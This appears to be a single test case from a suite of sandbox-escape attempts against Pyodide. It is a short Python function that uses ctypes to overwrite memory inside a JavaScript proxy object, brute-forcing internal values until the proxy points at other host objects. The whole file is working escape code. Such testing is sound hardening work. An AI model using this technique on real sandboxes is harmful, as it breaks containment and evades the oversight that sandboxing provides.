"""Turns a proxy into one of whatever else the interpreter's host holds, by writing over the number that it keeps."""

import ctypes

from attempt import attempt, outside


@attempt
def forged_proxy():
    from pyodide.ffi import to_js

    proxy = to_js([1])
    words = (ctypes.c_uint32 * 16).from_address(id(proxy))
    kept = list(words)
    for at in range(2, 12):
        if not 0 < kept[at] < 100_000:
            continue
        for number in range(1, 3000):
            words[at] = number
            try:
                found = outside(proxy)
            except BaseException:
                found = None
            if found:
                words[at] = kept[at]
                return number, found
        words[at] = kept[at]
